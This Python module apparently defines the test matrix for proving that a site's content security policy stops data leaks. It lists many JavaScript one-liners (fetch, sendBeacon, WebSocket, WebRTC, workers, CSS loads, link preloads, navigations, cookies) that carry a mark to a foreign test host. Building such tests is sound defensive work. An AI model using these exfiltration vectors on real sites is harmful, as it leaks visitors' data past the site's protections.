"""Every way out that the proof tries: what the attacker's program does, from where, and what the visitor does next.

The attacker is the site's own program, gone bad: the scripts below are added to the site's own files (`armed.py`), so
they run under the page's own policy. Each is the body of an async function of

    g       the realm it works in: the page's window, a fresh frame's, another tab's, or a worker's global
    d       that realm's document
    to      the address it tries to reach; the mark to carry out is in it
    mark    the mark alone: letters and digits, also good for a host name
    x       port (of the foreign server), host (a foreign name with the mark), origin and page (ours), worker (a script
            of ours that runs as a worker), and the small tools of `attack.js`

A vector is tried to a foreign address, to a listed address of ours with a query, and to one that is not listed.
"""

from collections.abc import Iterable
from dataclasses import dataclass
from enum import Enum


class Place(Enum):
    """Where the script runs."""

    PAGE = "page"
    FRAME = "fresh frame"
    WORKER = "worker"
    SHARED_WORKER = "shared worker"
    SERVICE_WORKER = "service worker"
    #: A contact page in another tab, which our page tells what to do.
    PLAIN_TAB = "plain tab"
    #: The contact page that opened our page, reached through `opener`.
    OPENER = "opener"


class Target(Enum):
    """Whom the script tries to tell."""

    FOREIGN = "foreign server"
    LISTED = "our own server, listed address with a query"
    UNLISTED = "our own server, address that is not listed"


class Then(Enum):
    """What the visitor does next."""

    NOTHING = ""
    RELOAD = "then the visitor reloads"
    BACK_AND_FORWARD = "then the visitor goes back and forward"
    CLICK = "clicked by the visitor"
    CTRL_CLICK = "clicked with Ctrl"
    MIDDLE_CLICK = "clicked with the middle button"
    ALT_CLICK = "clicked with Alt"
    INSTALL = "then the browser asks whether it can be installed"
    LISTED_PAGE = "then the visitor follows a link to a tool"
    PLAIN_PAGE = "then the visitor follows a link to the contact page"


class Room(Enum):
    """What an attempt may disturb, and so must not share."""

    SHARED = "a tab with many others"
    OWN_TAB = "a tab"
    OWN_BROWSER = "a browser in which nothing else goes on"


PAGE, FRAME, WORKER = Place.PAGE, Place.FRAME, Place.WORKER
SHARED, SERVICE = Place.SHARED_WORKER, Place.SERVICE_WORKER
TAB, OPENER = Place.PLAIN_TAB, Place.OPENER

DOCUMENTS = (PAGE, FRAME)
WORKERS = (WORKER, SHARED, SERVICE)
EVERYWHERE = (*DOCUMENTS, *WORKERS, TAB, OPENER)

ANYBODY = (Target.FOREIGN, Target.LISTED, Target.UNLISTED)
OURS = (Target.LISTED, Target.UNLISTED)
THEIRS = (Target.FOREIGN,)

TOOL = "/en/tools/hl7-viewer/"
SCRIPT = "/static/first.js"
PICTURE = "/static/icon.svg"


@dataclass(frozen=True, kw_only=True)
class Vector:
    name: str
    script: str
    places: tuple[Place, ...] = DOCUMENTS
    targets: tuple[Target, ...] = ANYBODY
    then: Then = Then.NOTHING
    room: Room = Room.SHARED
    #: The listed address of ours that it asks for.
    own: str = TOOL

    @property
    def title(self) -> str:
        return f"{self.name}, {self.then.value}" if self.then.value else self.name


@dataclass(frozen=True)
class Pair:
    vector: Vector
    place: Place

    @property
    def name(self) -> tuple[str, str]:
        return self.vector.title, self.place.value


def _style(name: str, declaration: str) -> Vector:
    """A style set on an element by script: `style-src` does not see it."""
    return Vector(name=name, script=f"x.style(d, `{declaration}`)", own=PICTURE)


def _link(
    rel: str,
    loads: str = "",
    *,
    places: tuple[Place, ...] = DOCUMENTS,
    targets: tuple[Target, ...] = ANYBODY,
    own: str = TOOL,
) -> Vector:
    name = f"link rel={rel}, {loads}" if loads else f"link rel={rel}"
    return Vector(name=name, script=f"x.link(d, to, '{rel}', '{loads}')", places=places, targets=targets, own=own)


def _calls(places: tuple[Place, ...], room: Room) -> tuple[Vector, ...]:
    ways = {
        "WebRTC, STUN server": "await x.call(g, [{ urls: `stun:127.0.0.1:${x.port}` }])",
        "WebRTC, TURN server over TCP": "const urls = `turn:127.0.0.1:${x.port}?transport=tcp`; "
        "await x.call(g, [{ urls, username: mark, credential: mark }])",
        "WebRTC, candidate of the other side": "await x.candidate(g, x.port)",
    }
    return tuple(
        Vector(name=name, script=script, places=places, targets=THEIRS, room=room) for name, script in ways.items()
    )


CONNECTIONS = (
    Vector(name="fetch", script="await g.fetch(to, { mode: 'no-cors' })", places=EVERYWHERE),
    Vector(
        name="fetch, POST with keepalive",
        script="await g.fetch(to, { mode: 'no-cors', method: 'POST', body: mark, keepalive: true })",
        places=(*DOCUMENTS, *WORKERS),
    ),
    Vector(
        name="fetch with a header of its own",
        script="await g.fetch(to.split('?')[0], { headers: { 'x-note': mark } })",
        places=(PAGE, WORKER),
        targets=(Target.LISTED,),
    ),
    Vector(
        name="XMLHttpRequest",
        script="const r = new g.XMLHttpRequest(); r.open('POST', to); r.send(mark)",
        places=(*DOCUMENTS, WORKER, SHARED, OPENER),
    ),
    Vector(name="sendBeacon", script="g.navigator.sendBeacon(to, mark)", places=(*DOCUMENTS, TAB, OPENER)),
    Vector(
        name="WebSocket", script="x.keep(new g.WebSocket(to.replace('http', 'ws')))", places=(*DOCUMENTS, *WORKERS, TAB)
    ),
    Vector(
        name="WebSocketStream",
        script="x.keep(new g.WebSocketStream(to.replace('http', 'ws')))",
        places=(PAGE, WORKER),
    ),
    Vector(
        name="EventSource", script="x.keep(new g.EventSource(to))", places=(*DOCUMENTS, WORKER, SHARED), targets=ANYBODY
    ),
    Vector(
        name="WebTransport",
        script="x.keep(new g.WebTransport(to.replace('http:', 'https:')))",
        places=(*DOCUMENTS, *WORKERS),
        targets=THEIRS,
    ),
    Vector(name="fetchLater", script="g.fetchLater(to, { activateAfter: 0 })"),
    Vector(
        name="fetchLater over https",
        script="g.fetchLater(`https://${x.host}/`, { activateAfter: 0 })",
        targets=THEIRS,
    ),
    Vector(
        name="Cache.add",
        script="await (await g.caches.open('proof')).add(new g.Request(to, { mode: 'no-cors' }))",
        places=(*DOCUMENTS, *WORKERS),
    ),
    *_calls((PAGE, TAB, OPENER), Room.SHARED),
    # Chromium ends a tab in which a fresh frame asks for a connection that `webrtc=block` refuses.
    *_calls((FRAME,), Room.OWN_TAB),
)

PROGRAMS = (
    Vector(name="import()", script="await import(to)", places=(PAGE, WORKER, SHARED), own=SCRIPT),
    Vector(name="Worker", script="x.keep(new g.Worker(to))", places=(PAGE, FRAME, WORKER), targets=OURS, own=SCRIPT),
    Vector(name="SharedWorker", script="x.keep(new g.SharedWorker(to))", targets=OURS, own=SCRIPT),
    Vector(
        name="worker from a blob, fetch",
        script="x.keep(new g.Worker(x.blob(g, `fetch('${to}', { mode: 'no-cors' })`)))",
        places=(PAGE, FRAME, WORKER),
    ),
    Vector(
        name="worker from a blob, importScripts",
        script="x.keep(new g.Worker(x.blob(g, `importScripts('${to}')`)))",
        places=(PAGE, WORKER),
        own=SCRIPT,
    ),
    Vector(
        name="worker from a data address",
        script="x.keep(new g.Worker('data:text/javascript,' + encodeURIComponent(`fetch('${to}', {mode:'no-cors'})`)))",
        places=(PAGE, FRAME),
    ),
    Vector(
        name="service worker from an address that is not listed",
        script="await g.navigator.serviceWorker.register(to)",
        places=(PAGE,),
        targets=OURS,
        own=SCRIPT,
    ),
    Vector(
        name="background fetch",
        script="await (await x.serviceWorker(x.worker)).backgroundFetch.fetch(mark, [to])",
        places=(PAGE,),
    ),
    Vector(name="audio worklet", script="await new g.OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(to)"),
    Vector(name="paint worklet", script="await g.CSS.paintWorklet.addModule(to)"),
    Vector(
        name="shared storage worklet",
        script="await g.sharedStorage.worklet.addModule(to)",
        places=(PAGE,),
        targets=THEIRS,
    ),
    Vector(name="script", script="x.put(d, 'script', { src: to })", own=SCRIPT),
    Vector(name="script type=module", script="x.put(d, 'script', { type: 'module', src: to })", own=SCRIPT),
    Vector(
        name="script written inside the page", script="x.put(d, 'script', {}, `fetch('${to}', { mode: 'no-cors' })`)"
    ),
    Vector(
        name="handler attribute",
        script="x.put(d, 'img', { src: 'data:,', onerror: `fetch('${to}', { mode: 'no-cors' })` })",
    ),
    Vector(name="eval", script="g.eval(`fetch('${to}', { mode: 'no-cors' })`)", places=(*DOCUMENTS, WORKER)),
    Vector(name="new Function", script="new g.Function(`fetch('${to}', { mode: 'no-cors' })`)()"),
    Vector(name="setTimeout of a text", script="g.setTimeout(`fetch('${to}', { mode: 'no-cors' })`, 0)"),
    Vector(name="svg script", script="x.draw(d, 'script', { href: to })", own=SCRIPT),
    Vector(name="speculation rules, prefetch", script="x.speculate(d, 'prefetch', to)", places=(PAGE,)),
    Vector(name="speculation rules, prerender", script="x.speculate(d, 'prerender', to)", places=(PAGE,)),
)

ELEMENTS = (
    Vector(name="img", script="x.put(d, 'img', { src: to })", own=PICTURE, places=(*DOCUMENTS, TAB, OPENER)),
    Vector(name="img srcset", script="x.put(d, 'img', { srcset: `${to} 1x` })", own=PICTURE),
    Vector(
        name="img, the mark in the host name", script="x.put(d, 'img', { src: `http://${x.host}/` })", targets=THEIRS
    ),
    Vector(name="picture", script="const p = x.put(d, 'picture'); x.put(p, 'source', { srcset: to }); x.put(p, 'img')"),
    Vector(name="input type=image", script="x.put(d, 'input', { type: 'image', src: to })", own=PICTURE),
    Vector(name="video", script="x.put(d, 'video', { src: to, preload: 'auto' })"),
    Vector(name="video poster", script="x.put(d, 'video', { poster: to })", own=PICTURE),
    Vector(name="audio", script="x.keep(new g.Audio(to)).play()"),
    Vector(name="source of audio", script="x.put(x.put(d, 'audio', { preload: 'auto' }), 'source', { src: to })"),
    Vector(name="track", script="x.put(x.put(d, 'video'), 'track', { src: to, default: '' }).track.mode = 'showing'"),
    Vector(name="embed", script="x.put(d, 'embed', { src: to })", own=PICTURE),
    Vector(name="object", script="x.put(d, 'object', { data: to })", own=PICTURE),
    Vector(name="iframe", script="x.put(d, 'iframe', { src: to })"),
    Vector(name="location of a frame", script="x.put(d, 'iframe').contentWindow.location = to"),
    Vector(name="location of the frame itself", script="g.location.href = to", places=(FRAME,)),
    Vector(name="frame of a frameset", script="x.frameset(d, to)", places=(FRAME,)),
    Vector(name="iframe srcdoc", script="x.put(d, 'iframe', { srcdoc: `<img src='${to}'>` })"),
    Vector(name="iframe with a data address", script="x.put(d, 'iframe', { src: `data:text/html,<img src='${to}'>` })"),
    Vector(
        name="iframe with a blob", script="x.put(d, 'iframe', { src: x.blob(g, `<img src='${to}'>`, 'text/html') })"
    ),
    Vector(
        name="iframe with a javascript address",
        script="x.put(d, 'iframe', { src: `javascript:fetch('${to}', { mode: 'no-cors' })` })",
    ),
    Vector(
        name="document.write in a frame", script="d.open(); d.write(`<img src='${to}'>`); d.close()", places=(FRAME,)
    ),
    Vector(
        name="innerHTML", script="d.body.appendChild(d.createElement('p')).innerHTML = `<img src='${to}'>`", own=PICTURE
    ),
    Vector(name="policy in a meta element, report-uri", script="x.report(d, to)", places=(FRAME,)),
    Vector(name="attributionsrc", script="x.put(d, 'img', { attributionsrc: to })", places=(PAGE,)),
    Vector(name="ping", script="x.put(d, 'a', { href: '#proof', ping: to }).click()"),
    Vector(name="svg image", script="x.draw(d, 'image', { href: to })", own=PICTURE),
    Vector(name="svg use", script="x.draw(d, 'use', { href: `${to}#a` })", targets=OURS, own=PICTURE),
    Vector(name="svg feImage", script="x.draw(x.draw(d, 'filter'), 'feImage', { href: to })", own=PICTURE),
    Vector(name="XSLT document()", script="x.transform(g, to)", places=(PAGE,)),
    _link("stylesheet"),
    Vector(
        name="link rel=icon",
        script="for (const old of d.querySelectorAll('link[rel=icon]')) old.remove(); x.link(d, to, 'icon')",
        places=(PAGE,),
        room=Room.OWN_TAB,
        own=PICTURE,
    ),
    Vector(
        name="link rel=manifest",
        script="x.link(d, to, 'manifest')",
        places=(PAGE,),
        targets=(Target.FOREIGN, Target.LISTED),
        then=Then.INSTALL,
        room=Room.OWN_TAB,
    ),
    _link("modulepreload", own=SCRIPT),
    _link("prefetch"),
    _link("preload", "image", own=PICTURE),
    _link("preload", "script", own=SCRIPT),
    _link("preload", "fetch"),
    _link("preconnect", targets=THEIRS),
    _link("dns-prefetch", targets=THEIRS, places=(PAGE,)),
    _link("prerender", places=(PAGE,)),
    _link("compression-dictionary"),
    Vector(
        name="link rel=preconnect, the mark in the host name",
        script="x.link(d, `https://${x.host}/`, 'preconnect')",
        targets=THEIRS,
    ),
)

STYLES = (
    _style("css background", "background: url(${to})"),
    _style("css image-set", "background: image-set('${to}' 1x)"),
    _style("css cursor", "cursor: url(${to}), auto"),
    _style("css list-style", "display: list-item; list-style-image: url(${to})"),
    _style("css border-image", "border: 9px solid; border-image: url(${to}) 9"),
    _style("css mask", "mask: url(${to})"),
    _style("css content", "content: url(${to})"),
    _style("css shape-outside", "float: left; shape-outside: url(${to})"),
    _style("css filter", "filter: url(${to}#f)"),
    Vector(name="style element, @import", script="x.put(d, 'style', {}, `@import url(${to});`)"),
    Vector(name="@import into a sheet of ours", script="x.importInto(d, to)"),
    Vector(name="constructed sheet", script="x.sheet(g, `body { background: url(${to}) }`)", own=PICTURE),
    Vector(
        name="attribute selector over a typed value",
        script="x.put(d, 'input', { value: mark }); "
        "x.sheet(g, `input[value^='${mark.slice(0, 3)}'] { background: url(${to}) }`)",
        own=PICTURE,
    ),
    Vector(name="FontFace", script="await new g.FontFace('proof', `url(${to})`).load()"),
    Vector(
        name="@font-face",
        script="x.sheet(g, `@font-face { font-family: ${mark}; src: url(${to}) } b { font-family: ${mark} }`); "
        "x.put(d, 'b', {}, 'text')",
    ),
)

_DOWNLOAD = "x.put(d, 'a', { href: to, download: mark }).click()"

INTERFACES = (
    Vector(
        name="PaymentRequest",
        script="await new g.PaymentRequest([{ supportedMethods: to }], x.total).canMakePayment()",
        targets=THEIRS,
    ),
    Vector(
        name="FedCM",
        script="await g.navigator.credentials.get({ identity: { providers: [{ configURL: to, clientId: mark }] } })",
        targets=THEIRS,
    ),
    Vector(
        name="WebAuthn, related origin",
        script="await g.navigator.credentials.get({ publicKey: { rpId: x.host, challenge: new Uint8Array(16) } })",
        targets=THEIRS,
    ),
    Vector(
        name="notification with a picture",
        script="x.keep(new g.Notification(mark, { icon: to, image: to, badge: to }))",
        targets=ANYBODY,
        own=PICTURE,
    ),
    Vector(
        name="notification with a picture, by a service worker",
        script="await (await x.serviceWorker(x.worker)).showNotification(mark, { icon: to, image: to, badge: to })",
        places=(PAGE,),
        own=PICTURE,
    ),
    Vector(
        name="interest group",
        script="await g.navigator.joinAdInterestGroup({ owner: g.location.origin, name: mark, updateURL: to }, 60)",
        places=(PAGE,),
        targets=THEIRS,
    ),
    Vector(
        name="navigation preload header",
        script="await x.preloadHeader(d, mark, x.worker)",
        places=(PAGE,),
        targets=(Target.LISTED,),
    ),
    Vector(name="a[download]", script=_DOWNLOAD, places=(FRAME,)),
    # To a browser that lets it go, the foreign one is no download: the page would be gone.
    Vector(name="a[download]", script=_DOWNLOAD, places=(PAGE, TAB), room=Room.OWN_TAB),
    Vector(
        name="a[download] of a plain page of ours",
        script=_DOWNLOAD,
        targets=(Target.LISTED,),
        own="/en/contact/",
    ),
    Vector(
        name="a[download] with ping",
        script="x.put(d, 'a', { href: 'data:,', download: mark, ping: to }).click()",
        places=(PAGE,),
    ),
)

#: Ways to leave the page, each tried in a tab of its own, once as it is and once with a reload of what is left there.
_LEAVING = {
    "location.href": "g.location.href = to",
    "location.assign": "g.location.assign(to)",
    "location.replace": "g.location.replace(to)",
    "navigation.navigate": "g.navigation.navigate(to).finished.catch(() => 0)",
    "anchor": "x.put(d, 'a', { href: to }).click()",
    "svg anchor": "x.draw(d, 'a', { href: to }).dispatchEvent(new g.MouseEvent('click'))",
    "area of an image map": "x.put(x.put(d, 'map'), 'area', { href: to }).click()",
    "form, GET": "x.form(d, 'GET', to, mark)",
    "form, POST": "x.form(d, 'POST', to, mark)",
    "button's formaction": "x.put(x.put(d, 'form', { method: 'POST' }), 'button', { formaction: to }).click()",
    "meta refresh": "x.put(d, 'meta', { 'http-equiv': 'refresh', content: `0; url=${to}` })",
}
#: Ways to open another window.
_OPENING = {
    "window.open": "g.open(to)",
    "window.open, noopener": "g.open(to, '_blank', 'noopener')",
    "anchor to a new tab": "x.put(d, 'a', { href: to, target: '_blank' }).click()",
    "form to a new tab": "x.form(d, 'POST', to, mark, '_blank')",
    "popup, then its location": "g.open('about:blank').location.href = to",
}


def _moves(
    ways: Iterable[tuple[str, str]],
    then: Then,
    *,
    places: tuple[Place, ...] = DOCUMENTS,
    targets: tuple[Target, ...] = (Target.FOREIGN, Target.LISTED),
) -> tuple[Vector, ...]:
    return tuple(
        Vector(name=name, script=script, then=then, places=places, targets=targets, room=Room.OWN_TAB)
        for name, script in ways
    )


def _named(*names: str) -> list[tuple[str, str]]:
    return [(name, (_LEAVING | _OPENING)[name]) for name in names]


MOVES = (
    *_moves(_LEAVING.items(), Then.NOTHING, places=(PAGE,)),
    *_moves(_named("location.href", "anchor", "form, POST"), Then.NOTHING, places=(TAB, OPENER), targets=THEIRS),
    *_moves(_LEAVING.items(), Then.RELOAD, places=(PAGE,), targets=THEIRS),
    *_moves(_named("location.href", "anchor", "form, GET"), Then.RELOAD, places=(TAB, OPENER), targets=THEIRS),
    *_moves(_named("location.href"), Then.BACK_AND_FORWARD, places=(PAGE, TAB), targets=THEIRS),
    *_moves(_OPENING.items(), Then.NOTHING),
    *_moves(_OPENING.items(), Then.RELOAD, targets=THEIRS),
    *_moves(_named("window.open"), Then.RELOAD, places=(TAB,), targets=THEIRS),
    Vector(name="location of the page above", script="g.top.location.href = to", places=(FRAME,), room=Room.OWN_TAB),
    Vector(
        name="location of the page above",
        script="g.top.location.href = to",
        places=(FRAME,),
        targets=THEIRS,
        then=Then.RELOAD,
        room=Room.OWN_TAB,
    ),
    Vector(
        name="anchor to the page above",
        script="x.put(d, 'a', { href: to, target: '_top' }).click()",
        places=(FRAME,),
        targets=THEIRS,
        then=Then.RELOAD,
        room=Room.OWN_TAB,
    ),
    Vector(
        name="popup, then writing into it",
        script="g.open('about:blank').document.write(`<img src='${to}'>`)",
        places=(PAGE,),
        room=Room.OWN_TAB,
    ),
    Vector(
        name="location with a javascript address",
        script="g.location.href = `javascript:void fetch('${to}', { mode: 'no-cors' })`",
        places=(PAGE,),
        room=Room.OWN_TAB,
    ),
    Vector(
        name="location with a blob",
        script="g.location.href = x.blob(g, `<img src='${to}'>`, 'text/html')",
        places=(PAGE,),
        room=Room.OWN_TAB,
    ),
    Vector(
        name="document.open and write",
        script="d.open(); d.write(`<img src='${to}'>`); d.close()",
        places=(PAGE,),
        room=Room.OWN_TAB,
    ),
)

#: Links that a visitor is lured to click: a real press of the mouse, not a script's.
LURES = tuple(
    Vector(
        name="link over the whole page",
        script="x.lure(d, to)",
        places=(PAGE,),
        targets=(Target.FOREIGN, Target.LISTED),
        then=then,
        room=Room.OWN_TAB,
    )
    for then in (Then.CLICK, Then.CTRL_CLICK, Then.MIDDLE_CLICK, Then.ALT_CLICK)
)

#: What is put down here and carried by an allowed request later.
CARRIED = (
    *(
        Vector(
            name="cookie",
            script="d.cookie = `${mark}=1; path=/`",
            places=(PAGE,),
            targets=(Target.LISTED,),
            then=then,
            room=Room.OWN_BROWSER,
        )
        for then in (Then.RELOAD, Then.PLAIN_PAGE)
    ),
    *(
        Vector(
            name="history.pushState",
            script="g.history.pushState({}, '', to)",
            places=(PAGE,),
            targets=OURS,
            then=then,
            room=Room.OWN_TAB,
        )
        for then in (Then.RELOAD, Then.LISTED_PAGE, Then.PLAIN_PAGE)
    ),
    Vector(
        name="history.pushState of the page above",
        script="g.top.history.pushState({}, '', to)",
        places=(FRAME,),
        targets=OURS,
        then=Then.RELOAD,
        room=Room.OWN_TAB,
    ),
    Vector(
        name="history.replaceState",
        script="g.history.replaceState({}, '', to)",
        places=(PAGE,),
        targets=OURS,
        then=Then.RELOAD,
        room=Room.OWN_TAB,
    ),
    Vector(
        name="Referer after history.pushState",
        script=f"g.history.pushState({{}}, '', to); x.put(d, 'img', {{ referrerpolicy: 'unsafe-url', src: '{TOOL}' }})",
        places=(PAGE,),
        targets=OURS,
        room=Room.OWN_TAB,
    ),
)

VECTORS: tuple[Vector, ...] = (
    *CONNECTIONS, *PROGRAMS, *ELEMENTS, *STYLES, *INTERFACES, *MOVES, *LURES, *CARRIED,
)  # fmt: skip
PAIRS: tuple[Pair, ...] = tuple(Pair(vector, place) for vector in VECTORS for place in vector.places)
